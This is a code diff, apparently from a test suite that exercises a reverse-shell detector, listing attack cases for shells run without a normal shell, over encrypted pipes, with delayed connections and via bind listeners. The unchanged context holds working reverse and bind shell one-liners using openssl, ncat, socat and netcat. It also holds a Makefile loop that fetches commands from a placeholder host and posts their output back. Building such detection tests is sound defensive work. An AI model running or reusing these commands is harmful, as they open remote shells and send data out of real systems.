@@ -1,9 +1,9 @@
 # SPDX-License-Identifier: Apache-2.0
 """Shapes I to L: what runs the commands is no shell, and how it came by its connection is not seen.
 
-I: a command loop in a program that can run another one, from a file or standard input. J: pipelines
-with encryption, doubled tools, wrappers that make a terminal. K: doors that leave no connect record.
-L: patience: minutes between exec, connect and shell, two forks between."""
+I: a command loop in a program that can run another one, from a file or standard input. J:
+pipelines with encryption, doubled tools, wrappers that make a terminal. K: doors that leave no
+connect record. L: patience: minutes between exec, connect and shell, two forks between."""
 
 from attacks import PROGRAM
 from scenarios import Attack
@@ -65,7 +65,8 @@ expect {
 AWK_SYSTEM = "{ if ($0 == \"exit\") exit; system($0); fflush() }\n"
 MAKE_LOOP = """\
 all:
-\t@while c=$$(curl -s http://@H@:@P@/task); do [ -n "$$c" ] && $(MAKE) -s run C="$$c"; sleep 0.4; done
+\t@while c=$$(curl -s http://@H@:@P@/task); do \\
+\t[ -n "$$c" ] && $(MAKE) -s run C="$$c"; sleep 0.4; done
 run:
 \t@$(C) | curl -s --data-binary @- http://@H@:@P@/r
 """
@@ -184,8 +185,8 @@ ATTACKS = [
            "openssl s_client -quiet -connect @H@:@P@ 2>/dev/null | sh 2>&1 | "
            "openssl s_client -quiet -connect @H@:@Q@ 2>/dev/null", live=True),
     Attack("tls_fifo_cron", "J", "openssl", "cron", "tls",
-           "mkfifo @D@/f; openssl s_client -quiet -verify_quiet -connect @H@:@P@ <@D@/f 2>/dev/null "
-           "| bash >@D@/f 2>&1", live=True),
+           "mkfifo @D@/f; openssl s_client -quiet -verify_quiet -connect @H@:@P@ <@D@/f "
+           "2>/dev/null | bash >@D@/f 2>&1", live=True),
     Attack("tls_ncat_ssh", "J", "netcat", "ssh", "tls", "ncat --ssl @H@ @P@ -e /bin/sh",
            needs=("ncat",), live=True),
     Attack("tls_socat_pty_web", "J", "socat", "web", "tls",
@@ -268,7 +269,8 @@ while True:
            f"mkfifo @D@/f @D@/g; exec 8<>@D@/f 9<>@D@/g; sh <@D@/f >@D@/g 2>&1 & sleep {LATE}; "
            "nc.openbsd @H@ @P@ <@D@/g >@D@/f", needs=("nc.openbsd",), patience=PATIENCE, live=True),
     Attack("late_bind_socat_ssh", "L", "bind", "ssh", "late_bind",
-           "setsid -f socat TCP-LISTEN:@P@ EXEC:sh", needs=("socat",), patience=PATIENCE, live=True),
+           "setsid -f socat TCP-LISTEN:@P@ EXEC:sh", needs=("socat",), patience=PATIENCE,
+           live=True),
     Attack("late_socat_retry_cron", "L", "socat", "cron", "late_tcp",
            "socat TCP:@H@:@P@,retry=100,interval=2 EXEC:'bash -i',pty,stderr,setsid",
            needs=("socat",), patience=PATIENCE, live=True),
